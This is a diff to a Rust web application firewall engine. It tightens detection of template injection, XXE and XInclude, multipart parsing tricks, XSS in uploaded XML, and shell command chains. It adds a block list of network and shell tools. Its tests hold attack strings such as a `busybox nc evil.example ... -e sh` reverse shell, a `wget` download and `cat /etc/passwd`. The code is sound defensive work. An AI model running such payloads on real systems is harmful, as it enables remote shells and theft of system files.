@@ -131,9 +131,8 @@ impl Rule {
             Rule::TraversalSystemFile => shape.any(Shape::SLASH | Shape::COLON),
             Rule::JndiLookup => shape.any(Shape::DOLLAR) && shape.any(Shape::BRACE),
             Rule::RceShellChain => shape.any(Shape::SEPARATOR | Shape::DOLLAR),
-            Rule::TemplateExpression => {
-                shape.any(Shape::BRACE) || (shape.any(Shape::MARKUP) && shape.any(Shape::PERCENT))
-            }
+            // `#set(`, `<#assign`, `%{` as well as braces: any punctuation.
+            Rule::TemplateExpression => true,
             Rule::NosqlOperator | Rule::NosqlAnyOperator | Rule::XxeEntity => false,
         }
     }
@@ -423,8 +422,12 @@ impl WafEngine for BuiltinEngine {
                 self.field("form", &name, &value, &mut hits);
             }
         } else if let Ok(text) = std::str::from_utf8(body) {
-            // Another or no declared type: the body as one value, as a server might read it.
+            // Another or no declared type: the body as one value, as a server might read it,
+            // and, when it is JSON (servers that parse any body as JSON exist), as JSON too.
             self.inspect(|| String::from("body"), text, &mut hits);
+            if text.trim_start().starts_with(['{', '[']) {
+                let _ = self.json(body, &mut hits);
+            }
         }
         Ok(hits)
     }
@@ -533,7 +536,7 @@ impl BuiltinEngine {
         sections.next(); // the preamble
         let mut fields = 0;
         let mut closed = false;
-        for section in sections {
+        for section in sections.by_ref() {
             if section.starts_with("--") {
                 closed = true;
                 break;
@@ -545,6 +548,29 @@ impl BuiltinEngine {
             let section = section.strip_prefix("\r\n").ok_or_else(unparsable)?;
             let (head, value) = section.split_once("\r\n\r\n").ok_or_else(unparsable)?;
             let value = value.strip_suffix("\r\n").unwrap_or(value);
+            // Folded header lines (obsolete; PHP unfolds them, others do not) are refused.
+            if head.split("\r\n").any(|line| line.starts_with([' ', '\t'])) {
+                return Err(unparsable());
+            }
+            // A field is read as UTF-8 text: a transfer encoding or another charset would
+            // be decoded by some servers and not others.
+            let part_header = |name: &str| {
+                head.split("\r\n")
+                    .filter_map(|l| l.split_once(':'))
+                    .find(|(k, _)| k.trim().eq_ignore_ascii_case(name))
+                    .map(|(_, v)| v.trim().to_ascii_lowercase())
+            };
+            let encoded = part_header("content-transfer-encoding")
+                .is_some_and(|e| !matches!(e.as_str(), "7bit" | "8bit" | "binary"));
+            let charset = part_header("content-type")
+                .and_then(|t| {
+                    t.split(';').find_map(|p| {
+                        p.trim()
+                            .strip_prefix("charset=")
+                            .map(|c| c.trim_matches('"').to_owned())
+                    })
+                })
+                .is_some_and(|c| !matches!(c.as_str(), "utf-8" | "utf8" | "us-ascii"));
             // One Content-Disposition: with two, parsers read different names.
             let mut dispositions = head
                 .lines()
@@ -567,13 +593,18 @@ impl BuiltinEngine {
                 let decoded = form_decode(file.split_once("''").map_or(*file, |(_, f)| f), false);
                 self.inspect(|| format!("file:{name}"), &decoded, hits);
             }
-            // A part without a file name (or an empty one, which servers read as a field)
-            // is a field: its value is inspected.
-            if files.iter().flatten().all(|f| f.is_empty()) {
+            // A part is a file only with a non-empty plain `filename` (servers read a part
+            // with an empty one, or with `filename*` alone, as a field): a field's value is
+            // inspected.
+            if param("filename").is_none_or(str::is_empty) {
+                if encoded || charset {
+                    return Err(unparsable());
+                }
                 self.inspect(|| format!("form:{name}"), value, hits);
             }
         }
-        if !closed {
+        // Nothing after the closing delimiter may look like another part (PHP reads one).
+        if !closed || sections.next().is_some() {
             return Err(unparsable());
         }
         Ok(())
@@ -598,7 +629,7 @@ impl BuiltinEngine {
                 hits.push(Rule::XxeEntity.hit("xml:doctype", &masked(what)));
             }
         };
-        if text.contains("http://www.w3.org/2001/XInclude") {
+        if text.to_ascii_lowercase().contains("xinclude") {
             xxe("XInclude", hits);
         }
         let mut reader = quick_xml::Reader::from_str(text);
@@ -625,11 +656,30 @@ impl BuiltinEngine {
                         roots += 1;
                     }
                     let name = String::from_utf8_lossy(e.name().as_ref()).into_owned();
-                    for attribute in e.attributes() {
+                    // Attributes named twice are refused here, in linear time (the
+                    // parser's own check compares every pair).
+                    let mut seen = std::collections::HashSet::new();
+                    // The tag as a browser would read it (an SVG or XHTML upload), without
+                    // namespace declarations: a `<script>` element or an event handler
+                    // attribute is XSS.
+                    let mut tag = format!("<{name}");
+                    for attribute in e.attributes().with_checks(false) {
                         let attribute = attribute.map_err(|e| unparsable(&e.to_string()))?;
                         let key = String::from_utf8_lossy(attribute.key.as_ref()).into_owned();
                         let value = attribute.unescape_value().map_err(|e| unparsable(&e.to_string()))?;
                         values += 1;
+                        if values > self.config.max_values {
+                            return Err(too_many(self.config.max_values));
+                        }
+                        if key.starts_with("xmlns") && value.to_ascii_lowercase().contains("xinclude") {
+                            xxe("XInclude", hits);
+                        }
+                        if !seen.insert(key.clone()) {
+                            return Err(unparsable("an attribute named twice"));
+                        }
+                        if !key.starts_with("xmlns") {
+                            tag.push_str(&format!(" {key}=\"{}\"", value.replace('"', "&quot;")));
+                        }
                         let at = || {
                             format!(
                                 "xml:/{}{}{name}@{key}",
@@ -638,6 +688,15 @@ impl BuiltinEngine {
                             )
                         };
                         self.inspect(at, &value, hits);
+                    }
+                    tag.push('>');
+                    if self.runs(Rule::XssLibinjection) && Rule::XssLibinjection.matches(&tag) {
+                        let at = format!(
+                            "xml:/{}{}{name}",
+                            path.join("/"),
+                            if path.is_empty() { "" } else { "/" }
+                        );
+                        hits.push(Rule::XssLibinjection.hit(&at, &masked(&tag)));
                     }
                     if matches!(event, Event::Start(_)) {
                         path.push(name);
@@ -658,12 +717,24 @@ impl BuiltinEngine {
                     }
                 }
                 Event::DocType(d) => {
+                    // An internal subset (entities, default attribute values) or an
+                    // external DTD: the document's meaning then comes from declarations.
                     let declared = d.decode().unwrap_or_default().to_ascii_uppercase();
-                    if declared.contains("<!ENTITY") || declared.contains("SYSTEM") || declared.contains("PUBLIC") {
+                    if declared.contains('[') || declared.contains("SYSTEM") || declared.contains("PUBLIC") {
                         xxe(&declared, hits);
                     }
                 }
-                Event::Comment(_) | Event::Decl(_) | Event::PI(_) => {}
+                Event::Decl(d) => {
+                    // The body is read as UTF-8: a document declaring another encoding
+                    // (UTF-7, Latin-1) would be read differently by the upstream.
+                    if let Some(Ok(encoding)) = d.encoding() {
+                        let encoding = String::from_utf8_lossy(&encoding).to_ascii_lowercase();
+                        if !matches!(encoding.as_str(), "utf-8" | "utf8" | "us-ascii" | "ascii") {
+                            return Err(unparsable(&format!("declares encoding {encoding}; send UTF-8")));
+                        }
+                    }
+                }
+                Event::Comment(_) | Event::PI(_) => {}
                 Event::Eof => break,
             }
             if values > self.config.max_values {
@@ -681,7 +752,7 @@ impl BuiltinEngine {
 fn template_expression(value: &str) -> bool {
     // What an expression that runs code or reaches into objects holds (whitespace removed,
     // lower case); `{{name}}`, `${price}` hold none of it.
-    const CODE: [&str; 24] = [
+    const CODE: [&str; 26] = [
         "__",
         ".class",
         "getruntime",
@@ -699,17 +770,22 @@ fn template_expression(value: &str) -> bool {
         "?new(",
         "|filter",
         "|map",
+        "|attr",
         "t(java",
-        "config",
-        "self.",
-        "request.",
-        "range.",
         "\"id\"",
         "'id'",
+        "@java",
+        "$class",
+        "#_memberaccess",
+        "\\x5f",
+        "passthru(",
     ];
-    let computes = |inner: &str| {
+    // Objects Jinja and Flask templates expose: code only inside `{{ }}` or `{% %}`.
+    const JINJA: [&str; 4] = ["config", "self.", "request.", "range."];
+    let computes = |open: &str, inner: &str| {
         let inner: String = inner.chars().filter(|c| !c.is_whitespace()).collect();
         CODE.iter().any(|code| inner.contains(code))
+            || (matches!(open, "{{" | "{%") && JINJA.iter().any(|code| inner.contains(code)))
             || inner
                 .as_bytes()
                 .windows(3)
@@ -725,6 +801,8 @@ fn template_expression(value: &str) -> bool {
         ("{%", "%}"),
         ("<#", ">"),
         ("#set(", ")"),
+        ("%{", "}"),
+        ("{", "}"),
     ]
     .iter()
     .any(|(open, close)| {
@@ -732,7 +810,7 @@ fn template_expression(value: &str) -> bool {
             // An expression is short: its end is looked for within 256 bytes only (a scan
             // to the end of the value for every opening would make long values quadratic).
             let after = window(&lower, at + open.len(), 256);
-            after.find(close).is_some_and(|end| computes(&after[..end]))
+            after.find(close).is_some_and(|end| computes(open, &after[..end]))
         })
     })
 }
@@ -1005,7 +1083,7 @@ fn jndi(value: &str) -> bool {
 /// variable, a quote, a URL, a host name; a number for `sleep`). Prose that merely has a
 /// separator before a common word (`Tickets; id required`) does not match.
 fn shell_chain(value: &str) -> bool {
-    const COMMANDS: [&str; 34] = [
+    const COMMANDS: [&str; 56] = [
         "cat",
         "ls",
         "id",
@@ -1015,6 +1093,7 @@ fn shell_chain(value: &str) -> bool {
         "curl",
         "nc",
         "ncat",
+        "netcat",
         "bash",
         "sh",
         "zsh",
@@ -1033,13 +1112,34 @@ fn shell_chain(value: &str) -> bool {
         "dig",
         "touch",
         "env",
+        "printenv",
         "printf",
+        "echo",
         "telnet",
         "base64",
         "dir",
         "ifconfig",
         "ipconfig",
         "timeout",
+        "busybox",
+        "socat",
+        "find",
+        "ps",
+        "kill",
+        "nohup",
+        "xargs",
+        "getent",
+        "sudo",
+        "su",
+        "ssh",
+        "scp",
+        "tftp",
+        "crontab",
+        "awk",
+        "sed",
+        "vi",
+        "vim",
+        "node",
     ];
     // Commands whose usual argument is a number (`sleep 5`).
     const TIMED: [&str; 3] = ["sleep", "timeout", "ping"];
@@ -1047,14 +1147,23 @@ fn shell_chain(value: &str) -> bool {
     let bytes = lower.as_bytes();
     let mut i = 0;
     while i < bytes.len() {
-        let start = match bytes[i] {
-            b';' | b'|' | b'&' | b'\n' | b'`' => i + 1,
-            b'$' | b'<' if bytes.get(i + 1) == Some(&b'(') => i + 2,
+        // After `$(`, `<(`, `>(` or a backquote a command stands for certain (substitution);
+        // after `;`, `|`, `&` or a newline it might be prose, and needs an argument's shape.
+        let (start, substitution) = match bytes[i] {
+            b'`' => (i + 1, true),
+            b'$' | b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => (i + 2, true),
+            b';' | b'|' | b'&' | b'\n' => (i + 1, false),
             _ => {
                 i += 1;
                 continue;
             }
         };
+        // A run of separators is one: each is not read again (a long run of `;` would
+        // otherwise be read once per byte).
+        if !substitution && matches!(bytes.get(start), Some(b';' | b'|' | b'&' | b'\n')) {
+            i += 1;
+            continue;
+        }
         // A command is short: only the next 128 bytes are read (reading to the end of the
         // value after every separator would make long values quadratic).
         let after = window(&lower, start, 128).trim_start_matches([' ', '\t', '&', '|', ';']);
@@ -1063,21 +1172,32 @@ fn shell_chain(value: &str) -> bool {
             .unwrap_or(after.len());
         // The word as a shell reads it: quotes, backslashes and empty expansions removed
         // (`w'h'o'am'i`, `i\d`, `who$@ami`); `${IFS}` is a space.
-        let spelled = after[..word_end].replace("$@", "").replace("${ifs}", " ");
-        let word: String = spelled.chars().filter(|c| !matches!(c, '\'' | '"' | '\\')).collect();
-        let word = word.split(' ').next().unwrap_or("");
+        let raw = &after[..word_end];
+        let spelled: Cow<str> = match raw.contains(['\'', '"', '\\', '$']) {
+            true => Cow::Owned(
+                raw.replace("$@", "")
+                    .replace("${ifs}", " ")
+                    .chars()
+                    .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+                    .collect(),
+            ),
+            false => Cow::Borrowed(raw),
+        };
+        let word = spelled.split(' ').next().unwrap_or("");
         let command = word.rsplit('/').next().unwrap_or(word);
         if COMMANDS.contains(&command) {
             let tail = &after[word_end..];
             let argument = tail.trim_start();
-            if argument.is_empty()
+            if substitution
+                || argument.is_empty()
                 || tail.starts_with([')', '`', ';', '|', '&'])
-                || spelled.contains(' ')
+                || raw.contains("${ifs}")
                 || (tail.starts_with(char::is_whitespace)
                     && (argument.starts_with(['-', '/', '$', '\'', '"', '`', '~', '.'])
                         || (TIMED.contains(&command) && argument.starts_with(|c: char| c.is_ascii_digit()))
                         || url_argument(argument)
-                        || host_argument(argument)))
+                        || host_argument(argument)
+                        || COMMANDS.contains(&argument.split_whitespace().next().unwrap_or(""))))
             {
                 return true;
             }
@@ -1115,6 +1235,8 @@ mod tests {
         assert!(shell_chain("x; cat /etc/passwd") && shell_chain("$(id)"));
         assert!(!shell_chain("Tom & Jerry; a catalogue"));
         for attack in [
+            "`wget evil/x -O /tmp/x`",
+            ";busybox nc evil.example 1 -e sh",
             "x; cat /etc/passwd",
             "a|id",
             "1 && /usr/bin/id",
